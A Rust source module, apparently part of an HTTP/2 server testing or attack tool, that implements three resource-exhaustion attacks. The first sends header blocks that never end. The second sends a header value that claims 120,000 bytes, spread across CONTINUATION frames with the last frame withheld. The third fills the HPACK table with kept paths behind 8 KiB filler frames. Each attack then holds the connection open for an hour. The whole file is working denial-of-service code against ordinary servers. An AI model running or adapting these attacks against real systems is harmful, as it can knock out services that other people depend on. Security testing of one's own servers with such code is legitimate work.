//! Attacks by what the server keeps for requests that are still to come.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::connection::{Connection, Target};
use super::streams::CHECK;
use super::wire::{self, FRAME_MAX, PREFACE, flag, kind};

/// Fields of one request: as many as the server takes by their size, which counts 32 bytes for each.
const FIELDS: usize = 360;
/// Entries of the table: as many as fit in 4,096 bytes.
const PATHS: usize = 107;
/// A frame that fills nearly all of a buffer of 8 KiB.
const FILLER: usize = 8_150;
/// Frames of one block: as many as h2 takes, which is where servers have no limit of their own.
const FRAMES: usize = 7;
/// The length that the value of a field claims, in bytes: more than all frames of the block.
const CLAIMED: usize = 120_000;
/// Longer than any trial.
const LONG: Duration = Duration::from_secs(3600);

/// The beginning of a request, with many fields and without an end.
pub(super) async fn unended_headers(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let mut block = wire::headers(CHECK, None, &[]);
    wire::indexed(&mut block, "x", "");
    block.resize(block.len() + FIELDS, wire::NEWEST);
    connection.write(&wire::frame(kind::HEADERS, 0, 1, &block)).await?;
    // Answers SETTINGS. The server cannot ask anything within a block.
    connection.attend(LONG).await
}

/// After one call, the beginning of a request with a value that is never whole, as are the block and its last frame.
pub(super) async fn unended_values(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let check = wire::headers(CHECK, None, &[]);
    let stream = connection.call(&check, &wire::message(&[])).await?;
    connection.finish(stream).await?;
    let mut block = check;
    wire::literal(&mut block, "x", &"7".repeat(CLAIMED));
    block.truncate(FRAMES * FRAME_MAX);
    let kinds = std::iter::once(kind::HEADERS).chain(std::iter::repeat(kind::CONTINUATION));
    let frames = block.chunks(FRAME_MAX).zip(kinds);
    let frames: Vec<u8> = frames.flat_map(|(part, kind)| wire::frame(kind, 0, stream + 2, part)).collect();
    connection.write(&frames[..frames.len() - 1]).await?;
    connection.attend(LONG).await
}

/// Requests whose paths are to be kept, each of which comes with a buffer of its own.
pub(super) async fn paths(target: &Target, number: usize) -> io::Result<()> {
    if number.is_multiple_of(2) {
        let mut connection = Connection::open(target, &[]).await?;
        for entry in 0..PATHS {
            connection.write(&kept_path(entry)).await?;
            connection.attend(Duration::ZERO).await?;
        }
        connection.attend(LONG).await
    } else {
        let mut socket = target.connect().await?;
        socket.write_all(&[PREFACE, &wire::settings(&[])].concat()).await?;
        for entry in 0..PATHS {
            socket.write_all(&kept_path(entry)).await?;
        }
        socket.read_to_end(&mut Vec::new()).await.map(drop)
    }
}

/// A request for `/`, which the table is to keep, after a frame that means nothing.
fn kept_path(entry: usize) -> Vec<u8> {
    // POST, http, `:path` with incremental indexing (RFC 7541, 6.2.1), and a content type.
    let mut block = b"\x83\x86\x44\x01/".to_vec();
    wire::literal(&mut block, "content-type", "application/grpc");
    let stream = 2 * entry as u32 + 1;
    let request = wire::frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
    [wire::frame(kind::UNKNOWN, 0, 0, &[0; FILLER]), request].concat()
}
